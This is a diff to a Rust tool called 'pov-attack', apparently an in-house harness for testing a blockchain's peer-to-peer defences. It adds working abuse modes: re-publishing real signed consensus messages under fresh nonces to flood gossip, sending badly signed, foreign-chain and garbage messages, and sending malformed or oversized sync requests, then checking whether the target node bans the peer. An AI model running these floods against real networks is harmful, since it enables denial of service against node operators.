@@ -17,6 +17,15 @@
 //!   many the server closed and how many were open at the end.
 //! - `big-body ADDR BYTES`: POSTs a transaction body of BYTES bytes to ADDR's `/tx`; prints
 //!   the status the server answered (0 if none) and how many body bytes it took first.
+//! - `gossip MULTIADDR GENESIS_HEX COPIES SECS`: joins the chain's gossip and, for SECS
+//!   seconds, publishes every consensus message it receives (real, signed votes and
+//!   proposals) again COPIES times under fresh envelope nonces; then publishes transactions
+//!   with bad signatures (signed for another genesis of the same chain id) and of another
+//!   chain, and garbage; prints how many messages it received and re-sent, how many bad ones
+//!   it sent, and whether the target then closed the connection and refused a new one.
+//! - `sync-bad MULTIADDR GENESIS_HEX garbage|oversized`: sends one block-sync request that no
+//!   honest node sends (bytes that do not decode, or 64 KiB); prints whether it was answered,
+//!   whether the target closed the connection, and whether it refused a new one.
 
 use std::collections::HashSet;
 use std::io::Read;
@@ -25,7 +34,10 @@ use std::time::{Duration, Instant};
 
 use futures::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, StreamExt};
 use libp2p::swarm::{dial_opts::DialOpts, NetworkBehaviour, SwarmEvent};
-use libp2p::{identify, identity, noise, request_response, tcp, yamux, Multiaddr, StreamProtocol};
+use libp2p::{
+    gossipsub, identify, identity, noise, request_response, tcp, yamux, Multiaddr, PeerId,
+    StreamProtocol,
+};
 
 type Result<T> = std::result::Result<T, String>;
 
@@ -37,6 +49,8 @@ fn main() {
         Some("sync-flood") => run_async(sync_flood(&args[1..])),
         Some("slowloris") => slowloris(&args[1..]),
         Some("big-body") => big_body(&args[1..]),
+        Some("gossip") => run_async(gossip_abuse(&args[1..])),
+        Some("sync-bad") => run_async(sync_bad(&args[1..])),
         _ => {
             Err("usage: pov-attack tcp-hold|libp2p-hold|sync-flood ARGS... (see the source)".into())
         }
@@ -369,6 +383,310 @@ async fn sync_flood(args: &[String]) -> Result<()> {
         "sync-flood: sent {sent}, answered {answered}, failed {failed}, disconnected \
          {disconnects} times in {:.0} s",
         started.elapsed().as_secs_f64()
+    );
+    Ok(())
+}
+
+/// What the gossip attacker speaks: identify (to pass the chain check) and gossipsub.
+#[derive(NetworkBehaviour)]
+struct Gossiper {
+    identify: identify::Behaviour,
+    gossipsub: gossipsub::Behaviour,
+}
+
+/// A gossip swarm that claims to run the chain of `genesis_hex`, with the chain's consensus
+/// and transaction topics.
+fn gossip_swarm(
+    genesis_hex: &str,
+) -> Result<(
+    libp2p::Swarm<Gossiper>,
+    gossipsub::IdentTopic,
+    gossipsub::IdentTopic,
+)> {
+    if genesis_hex.len() != 64 {
+        return Err("GENESIS_HEX must be 64 hex digits".into());
+    }
+    let key = identity::Keypair::generate_ed25519();
+    let config = gossipsub::ConfigBuilder::default()
+        .max_transmit_size(17 << 20)
+        .validation_mode(gossipsub::ValidationMode::Strict)
+        .build()
+        .map_err(|e| format!("gossipsub: {e}"))?;
+    let mut gossip =
+        gossipsub::Behaviour::new(gossipsub::MessageAuthenticity::Signed(key.clone()), config)
+            .map_err(|e| format!("gossipsub: {e}"))?;
+    let short = &genesis_hex[..16];
+    let consensus = gossipsub::IdentTopic::new(format!("/pov/{short}/consensus/1"));
+    let txs = gossipsub::IdentTopic::new(format!("/pov/{short}/tx/1"));
+    for topic in [&consensus, &txs] {
+        gossip
+            .subscribe(topic)
+            .map_err(|e| format!("subscribe: {e}"))?;
+    }
+    let behaviour = Gossiper {
+        identify: identify::Behaviour::new(identify::Config::new(
+            format!("/pov/1/{genesis_hex}"),
+            key.public(),
+        )),
+        gossipsub: gossip,
+    };
+    let swarm = libp2p::SwarmBuilder::with_existing_identity(key)
+        .with_tokio()
+        .with_tcp(
+            tcp::Config::default(),
+            noise::Config::new,
+            yamux::Config::default,
+        )
+        .map_err(|e| format!("transport: {e}"))?
+        .with_behaviour(|_| behaviour)
+        .map_err(|e| format!("behaviour: {e}"))?
+        .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(3600)))
+        .build();
+    Ok((swarm, consensus, txs))
+}
+
+/// `n` as a postcard varint.
+fn varint(mut n: u64) -> Vec<u8> {
+    let mut out = Vec::new();
+    loop {
+        let byte = (n & 0x7f) as u8;
+        n >>= 7;
+        if n == 0 {
+            out.push(byte);
+            return out;
+        }
+        out.push(byte | 0x80);
+    }
+}
+
+/// A gossip payload with its leading varint nonce replaced by `nonce`: the same signed
+/// message in a new envelope, which gossipsub takes for a new message.
+fn renonce(payload: &[u8], nonce: u64) -> Vec<u8> {
+    let old = payload
+        .iter()
+        .take(10)
+        .position(|b| b & 0x80 == 0)
+        .map_or(0, |last| last + 1);
+    let mut out = varint(nonce);
+    out.extend_from_slice(&payload[old..]);
+    out
+}
+
+/// Transactions no honest node relays, each in its own gossip envelope: signed for another
+/// genesis of the dev chain id (a bad signature here), and of another chain.
+fn bad_transactions(count: u64) -> Vec<Vec<u8>> {
+    use pov_protocol::{Transaction, TxBody};
+    (0..count)
+        .map(|i| {
+            let key = pov_crypto::Keypair::dev(5);
+            let chain = if i % 2 == 0 {
+                "pov-devnet"
+            } else {
+                "bakery-coop"
+            };
+            let tx = Transaction::sign(
+                &key,
+                chain,
+                &pov_crypto::Hash::ZERO,
+                i + 1,
+                TxBody::Contribute {
+                    kind: "work".into(),
+                    title: format!("junk {i}"),
+                    uri: "https://example.org".into(),
+                    content_hash: None,
+                },
+            );
+            let mut envelope = varint(i);
+            envelope.extend(varint(1));
+            envelope.extend(tx.to_bytes());
+            envelope
+        })
+        .collect()
+}
+
+/// Polls `swarm` until `deadline`, noting whether the connection to `target` closed.
+async fn drain<B: NetworkBehaviour>(
+    swarm: &mut libp2p::Swarm<B>,
+    deadline: tokio::time::Instant,
+    closed: &mut bool,
+) {
+    loop {
+        tokio::select! {
+            _ = tokio::time::sleep_until(deadline) => return,
+            event = swarm.select_next_some() => {
+                if let SwarmEvent::ConnectionClosed { num_established: 0, .. } = event {
+                    *closed = true;
+                }
+            }
+        }
+    }
+}
+
+/// Whether a new identity-less dial of `target` by `swarm`'s identity is refused (the
+/// target banned this peer id): waits up to 5 s for the outcome.
+async fn redial_refused<B: NetworkBehaviour>(
+    swarm: &mut libp2p::Swarm<B>,
+    target: &Multiaddr,
+) -> bool {
+    if swarm
+        .dial(DialOpts::unknown_peer_id().address(target.clone()).build())
+        .is_err()
+    {
+        return false;
+    }
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
+    loop {
+        tokio::select! {
+            _ = tokio::time::sleep_until(deadline) => return true,
+            event = swarm.select_next_some() => match event {
+                // Accepted, then dropped at once by a peer that blocks us: refused.
+                SwarmEvent::ConnectionClosed { .. } | SwarmEvent::OutgoingConnectionError { .. } => {
+                    return true
+                }
+                SwarmEvent::ConnectionEstablished { .. } => {
+                    // Give a blocking target a moment to hang up.
+                    let grace = tokio::time::Instant::now() + Duration::from_secs(2);
+                    let mut closed = false;
+                    drain(swarm, grace, &mut closed).await;
+                    return closed;
+                }
+                _ => {}
+            }
+        }
+    }
+}
+
+/// Re-enveloped real consensus messages, then bad transactions and garbage.
+async fn gossip_abuse(args: &[String]) -> Result<()> {
+    let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
+    let genesis: String = arg(args, 1, "GENESIS_HEX")?;
+    let copies: u64 = arg(args, 2, "COPIES")?;
+    let secs: u64 = arg(args, 3, "SECS")?;
+    let (mut swarm, consensus, txs) = gossip_swarm(&genesis)?;
+    swarm
+        .dial(DialOpts::unknown_peer_id().address(target.clone()).build())
+        .map_err(|e| format!("dial: {e}"))?;
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
+    let mut nonce = u64::from(std::process::id()) << 32;
+    let (mut received, mut resent, mut unsent) = (0u64, 0u64, 0u64);
+    let mut peer: Option<PeerId> = None;
+    loop {
+        tokio::select! {
+            _ = tokio::time::sleep_until(deadline) => break,
+            event = swarm.select_next_some() => match event {
+                SwarmEvent::ConnectionEstablished { peer_id, .. } => peer = Some(peer_id),
+                SwarmEvent::Behaviour(GossiperEvent::Gossipsub(gossipsub::Event::Message {
+                    message, ..
+                })) if message.topic == consensus.hash() => {
+                    received += 1;
+                    for _ in 0..copies {
+                        nonce += 1;
+                        let copy = renonce(&message.data, nonce);
+                        match swarm.behaviour_mut().gossipsub.publish(consensus.clone(), copy) {
+                            Ok(_) => resent += 1,
+                            Err(_) => unsent += 1,
+                        }
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+    // Now what no honest node sends: a few are enough for a ban (three rejected messages).
+    let mut bad = 0u64;
+    for envelope in bad_transactions(6) {
+        if swarm
+            .behaviour_mut()
+            .gossipsub
+            .publish(txs.clone(), envelope)
+            .is_ok()
+        {
+            bad += 1;
+        }
+    }
+    for i in 0..6u64 {
+        let mut garbage = varint(i);
+        garbage.extend_from_slice(b"\xff\xfe not a consensus message");
+        garbage.extend_from_slice(&i.to_le_bytes());
+        if swarm
+            .behaviour_mut()
+            .gossipsub
+            .publish(consensus.clone(), garbage)
+            .is_ok()
+        {
+            bad += 1;
+        }
+    }
+    let mut closed = false;
+    drain(
+        &mut swarm,
+        tokio::time::Instant::now() + Duration::from_secs(8),
+        &mut closed,
+    )
+    .await;
+    let refused = closed && redial_refused(&mut swarm, &target).await;
+    println!(
+        "gossip: peer {}, received {received}, re-sent {resent}, not sent {unsent}, bad {bad}, \
+         closed {}, redial refused {}",
+        peer.map(|p| p.to_string()).unwrap_or_default(),
+        u8::from(closed),
+        u8::from(refused)
+    );
+    Ok(())
+}
+
+/// One block-sync request that no honest node sends.
+async fn sync_bad(args: &[String]) -> Result<()> {
+    let target: Multiaddr = arg(args, 0, "MULTIADDR")?;
+    let genesis: String = arg(args, 1, "GENESIS_HEX")?;
+    let kind: String = arg(args, 2, "KIND")?;
+    let request = match kind.as_str() {
+        // Variant 9 does not exist.
+        "garbage" => vec![9u8, 1, 2, 3],
+        "oversized" => vec![0u8; 64 * 1024],
+        other => return Err(format!("unknown kind {other:?}")),
+    };
+    let mut swarm = swarm(&genesis)?;
+    swarm
+        .dial(DialOpts::unknown_peer_id().address(target.clone()).build())
+        .map_err(|e| format!("dial: {e}"))?;
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
+    let mut answered = false;
+    let mut closed = false;
+    let mut sent = false;
+    // Sent a moment after connecting, once identify has passed the chain check.
+    let mut send_at: Option<(tokio::time::Instant, PeerId)> = None;
+    loop {
+        let wake = send_at.map_or(deadline, |(at, _)| at);
+        tokio::select! {
+            _ = tokio::time::sleep_until(deadline) => break,
+            _ = tokio::time::sleep_until(wake), if send_at.is_some() => {
+                if let Some((_, peer)) = send_at.take() {
+                    swarm.behaviour_mut().sync.send_request(&peer, request.clone());
+                    sent = true;
+                }
+            }
+            event = swarm.select_next_some() => match event {
+                SwarmEvent::ConnectionEstablished { peer_id, .. } if !sent && send_at.is_none() => {
+                    send_at = Some((tokio::time::Instant::now() + Duration::from_secs(2), peer_id));
+                }
+                SwarmEvent::Behaviour(AttackerEvent::Sync(request_response::Event::Message {
+                    message: request_response::Message::Response { .. }, ..
+                })) => answered = true,
+                SwarmEvent::ConnectionClosed { num_established: 0, .. } if sent => {
+                    closed = true;
+                    break;
+                }
+                _ => {}
+            }
+        }
+    }
+    let refused = closed && redial_refused(&mut swarm, &target).await;
+    println!(
+        "sync-bad {kind}: answered {}, closed {}, redial refused {}",
+        u8::from(answered),
+        u8::from(closed),
+        u8::from(refused)
     );
     Ok(())
 }
